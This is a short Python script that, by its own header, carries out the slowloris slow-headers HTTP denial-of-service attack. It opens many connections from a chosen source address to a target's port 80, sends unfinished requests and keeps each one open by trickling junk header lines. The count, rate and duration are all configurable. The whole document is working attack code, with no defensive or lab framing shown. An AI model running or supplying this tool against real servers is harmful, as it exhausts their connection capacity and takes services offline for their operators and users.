# A slow-headers HTTP DoS (the slowloris technique), one source address:
# opens COUNT connections to DST:80 at RATE per second, each sends an
# unfinished request, then one more header line every HEADER_GAP seconds,
# until LIMIT_SECS. Prints how many connections it opened.
# usage: slow_http.py SRC DST COUNT RATE HEADER_GAP LIMIT_SECS
import random, socket, sys, time

src, dst = sys.argv[1], sys.argv[2]
count, rate, hgap, limit = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
fam = socket.AF_INET6 if ":" in src else socket.AF_INET
host = f"[{dst}]" if fam == socket.AF_INET6 else dst
rng = random.Random(src)
start = time.monotonic()
deadline = start + limit
conns = []
opened = 0
next_open = start
while time.monotonic() < deadline:
    now = time.monotonic()
    if opened < count and now >= next_open:
        next_open += 1.0 / rate
        c = socket.socket(fam, socket.SOCK_STREAM)
        c.settimeout(1.0)
        try:
            c.bind((src, 0))
            c.connect((dst, 80))
            c.sendall(f"GET /?{rng.randrange(1 << 20)} HTTP/1.1\r\nHost: {host}\r\n"
                      "User-Agent: Mozilla/5.0\r\nAccept-language: en-US,en,q=0.5\r\n".encode())
            conns.append([c, now])
            opened += 1
        except OSError:
            c.close()
    for e in list(conns):
        if now - e[1] >= hgap:
            try:
                e[0].sendall(f"X-a: {rng.randrange(5000)}\r\n".encode())
                e[1] = now
            except OSError:
                e[0].close()
                conns.remove(e)
    time.sleep(0.02)
for c, _ in conns:
    c.close()
print(opened)
